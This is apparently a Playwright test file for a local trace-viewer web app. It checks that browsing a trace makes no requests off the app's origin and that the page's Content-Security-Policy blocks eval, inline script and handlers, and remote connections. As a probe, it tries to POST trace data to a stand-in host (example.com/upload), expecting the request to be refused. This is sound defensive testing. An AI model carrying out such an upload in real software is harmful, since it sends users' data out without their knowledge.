// A trace never leaves the machine: while a trace and its ELF are opened
// and browsed (steps, panes, a memory pane), every request of the page and
// its workers goes to the page's own origin (or blob:/data:), no service
// worker is installed, and the Content-Security-Policy of index.html holds:
// the page works under it (no violation) and it refuses eval, inline script
// and remote connections.

import assert from 'node:assert/strict';
import path from 'node:path';
import { test } from 'node:test';

import { ROOT, pageFixture } from './harness.mjs';

const GENERATED = 'tests/data/tracegen/quicksort-aarch64-O2-fastmodel-2M';

const fx = pageFixture();

test('browsing a trace makes no request beyond the app and passes the CSP', async (t) => {
  const requests = [];
  const onRequest = (r) => requests.push(r.url());
  fx.browser.context.on('request', onRequest);
  t.after(() => fx.browser.context.off('request', onRequest));

  const page = await fx.browser.context.newPage();
  t.after(() => page.close());
  const workers = [];
  page.on('worker', (w) => workers.push(w.url()));
  const errors = [];
  page.on('pageerror', (e) => errors.push(e.message));
  await page.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`),
    );
  });
  await page.goto(fx.server.url);
  await page.waitForSelector('[data-testid=status][data-state=idle]');
  const policy = await page.getAttribute('meta[http-equiv=Content-Security-Policy]', 'content');
  assert.match(policy, /script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/=]+'/);
  assert.match(policy, /default-src 'self'/);
  assert.doesNotMatch(policy, /'unsafe-eval'|script-src[^;]*'unsafe-inline'/);

  // Open and browse: steps, a register pane, a memory pane, a new view.
  await page.setInputFiles('[data-testid=file-input]', [
    path.join(ROOT, `${GENERATED}.tarmac`),
    path.join(ROOT, `${GENERATED}.elf`),
  ]);
  await page.waitForSelector('[data-testid=status][data-state=ready]', { timeout: 60_000 });
  await page.waitForSelector('[data-testid=trace-pane] .trace-row.current');
  await page.click('[data-testid=trace-pane]');
  for (const key of ['PageDown', 'ArrowDown', 'ArrowDown', 'PageDown', 'End', 'Home', 'PageDown']) {
    await page.keyboard.press(key);
  }
  await page.keyboard.press('m');
  await page.waitForSelector('[data-testid=prompt-input]');
  await page.fill('[data-testid=prompt-input]', 'sp');
  await page.press('[data-testid=prompt-input]', 'Enter');
  await page.waitForSelector('[data-testid=memory] [data-addr]');
  await page.click('[data-testid=new-view]');
  await page.click('[data-testid=tab-summary]');
  await page.waitForSelector('[data-kind]');
  await page.click('[data-testid=tab-browse]');
  await page.waitForTimeout(500);

  const origin = new URL(fx.server.url).origin;
  const foreign = requests.filter((u) => !u.startsWith(origin + '/') && !/^(blob|data):/.test(u));
  assert.deepEqual(foreign, [], 'requests beyond the app');
  assert.ok(requests.some((u) => u.endsWith('.wasm')), `requests were recorded: ${requests}`);
  // The app's own workers, and the read-ahead's reader (made by the worker
  // from its own script text, so a blob: URL of this origin).
  const own = (u) => u.startsWith(origin + '/') || u.startsWith(`blob:${origin}/`);
  assert.ok(workers.length > 0 && workers.every(own), `workers: ${workers}`);
  assert.deepEqual(fx.browser.context.serviceWorkers(), [], 'no service worker');
  assert.deepEqual(await page.evaluate(() => window.__violations), [], 'CSP violations');
  assert.deepEqual(errors, []);

  // The policy refuses eval, inline script and handlers, and remote
  // connections. (page.evaluate's own code comes through the debugger,
  // which CSP does not govern, so eval is tried the way page code would:
  // a timer given a string.)
  const refused = await page.evaluate(async () => {
    setTimeout('window.__evalRan = true', 0);
    const s = document.createElement('script');
    s.textContent = 'window.__inlineRan = true';
    document.body.append(s);
    const div = document.createElement('div');
    div.setAttribute('onclick', 'window.__handlerRan = true');
    document.body.append(div);
    div.click();
    div.remove();
    let fetched;
    try {
      await fetch('https://example.com/upload', { method: 'POST', body: 'trace' });
      fetched = 'sent';
    } catch (e) {
      fetched = e.name;
    }
    await new Promise((r) => setTimeout(r, 200));
    return {
      eval: window.__evalRan === true ? 'ran' : 'refused',
      inline: window.__inlineRan === true ? 'ran' : 'refused',
      handler: window.__handlerRan === true ? 'ran' : 'refused',
      fetch: fetched,
      violations: window.__violations.map((v) => v.split(' ')[0]).sort(),
    };
  });
  assert.deepEqual(refused, {
    eval: 'refused',
    inline: 'refused',
    handler: 'refused',
    fetch: 'TypeError',
    violations: ['connect-src', 'script-src', 'script-src-attr', 'script-src-elem'],
  });
  assert.deepEqual(
    requests.filter((u) => !u.startsWith(origin + '/') && !/^(blob|data):/.test(u)),
    [],
    'the refused fetch never left',
  );
});
